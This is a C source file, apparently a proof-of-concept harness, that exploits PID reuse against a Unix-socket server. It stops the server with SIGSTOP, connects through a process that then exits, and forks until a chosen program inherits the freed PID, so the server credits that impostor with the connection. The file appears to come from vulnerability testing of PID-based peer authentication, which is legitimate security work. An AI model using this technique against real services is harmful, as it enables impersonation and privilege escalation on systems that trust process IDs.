/* reuse SOCKET SERVER PROGRAM: a process connects while SERVER (a PID) is stopped and ends;
 * processes are made until PROGRAM has its number; then SERVER goes on, and an accomplice of
 * the first asks. Runs as root in a PID namespace with few numbers, its parts as UID 64001. */
#include "attack.h"

/* Numbers below RESERVED are given once only. */
enum { USER = 64001, RESERVED = 300, ROUNDS = 100000 };

static void be_user(void) {
  if (setresgid(USER, USER, USER) != 0 || setresuid(USER, USER, USER) != 0) fail("setresuid");
}

/* Connects as a process that ends, and keeps the socket. */
static int left_by(const char *path, pid_t *gone) {
  int channel[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, channel) != 0) fail("socketpair");
  *gone = fork();
  if (*gone == 0) {
    be_user();
    int fd = dial(path, SOCK_CLOEXEC);
    send_preface(fd);
    send_request(fd);
    pass(channel[0], fd, "x", 1);
    _exit(0);
  }
  int fd = take(channel[1]);
  waitpid(*gone, NULL, 0);
  return fd;
}

/* PROGRAM under this number. */
static void become(pid_t number, char *program) {
  int gate[2];
  if (pipe2(gate, O_CLOEXEC) != 0) fail("pipe2");
  for (int round = 0; round < ROUNDS; round++) {
    pid_t child = fork();
    if (child < 0) fail("fork");
    if (child == 0) {
      if (getpid() != number) _exit(0);
      be_user();
      if (dup2(gate[1], BEGUN) < 0) fail("dup2");
      char *command[] = {program, NULL};
      run(command);
    }
    if (child == number) {
      char c;
      close(gate[1]);
      if (read(gate[0], &c, 1) != 0) fail("the execve");
      printf("reused %d\n", number);
      fflush(stdout);
      return;
    }
    waitpid(child, NULL, 0);
  }
  fail("the number again");
}

static void pass_reserved(void) {
  pid_t child;
  do {
    child = fork();
    if (child < 0) fail("fork");
    if (child == 0) _exit(0);
    waitpid(child, NULL, 0);
  } while (child <= RESERVED);
}

int main(int count, char **words) {
  if (count < 4) return 2;
  pid_t server = number(words[2]), gone;
  pass_reserved();
  if (kill(server, SIGSTOP) != 0) fail("SIGSTOP");
  int fd = left_by(words[1], &gone);
  become(gone, words[3]);
  if (kill(server, SIGCONT) != 0) fail("SIGCONT");
  int result = outcome(fd);
  kill(gone, SIGKILL);
  return result;
}
